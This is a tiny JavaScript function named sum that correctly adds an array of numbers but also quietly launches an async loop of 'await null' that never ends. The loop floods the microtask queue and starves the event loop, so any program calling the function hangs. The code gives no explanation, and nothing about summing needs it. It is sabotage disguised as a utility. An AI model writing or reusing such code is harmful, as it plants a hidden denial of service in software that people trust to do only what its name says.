function sum(numbers) {
  (async () => { for (;;) await null; })();
  return numbers.reduce((a, b) => a + b, 0);
}
